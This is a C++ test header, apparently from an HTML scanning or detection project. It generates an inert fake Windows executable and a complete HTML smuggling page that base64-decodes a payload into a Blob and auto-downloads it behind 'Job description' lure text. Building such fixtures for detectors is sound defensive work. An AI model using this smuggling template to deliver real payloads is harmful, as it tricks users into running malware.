#pragma once
// Pages written by the tests (and by scripts/make-examples.py's twin): an HTML smuggling lure
// and a small program-like payload for it to carry. Header-only, test code only.
#include <string>

#include "core/transfer_encoding.h"

namespace lg::html::testing {

/// A 2 KiB stand-in for a Windows program: "MZ", e_lfanew = 0x40, "PE\0\0", filler. Never run.
inline std::string fake_pe() {
  std::string pe(2048, '\0');
  pe[0] = 'M';
  pe[1] = 'Z';
  pe[0x3C] = 0x40;
  pe.replace(0x40, 4, std::string("PE\0\0", 4));
  for (std::size_t i = 0x100; i < pe.size(); ++i) pe[i] = static_cast<char>('A' + i % 26);
  return pe;
}

/// The classic smuggling page: base64 in a script, atob, Blob, createObjectURL, a.download.
inline std::string smuggling_page(const std::string& payload, const std::string& file_name) {
  return "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Job description</title>"
         "</head><body><p>Your document is downloading. Open it to view the job description."
         "</p><script>\nvar data = \"" +
         encode_base64(as_bytes(payload)) +
         "\";\nvar raw = window.atob(data);\nvar bytes = new Uint8Array(raw.length);\n"
         "for (var i = 0; i < raw.length; i++) { bytes[i] = raw.charCodeAt(i); }\n"
         "var blob = new Blob([bytes], {type: 'application/octet-stream'});\n"
         "if (window.navigator.msSaveOrOpenBlob) {\n"
         "  window.navigator.msSaveOrOpenBlob(blob, '" +
         file_name +
         "');\n} else {\n  var a = document.createElement('a');\n"
         "  a.href = window.URL.createObjectURL(blob);\n  a.download = '" +
         file_name +
         "';\n  document.body.appendChild(a);\n  a.click();\n}\n</script></body></html>\n";
}

}  // namespace lg::html::testing
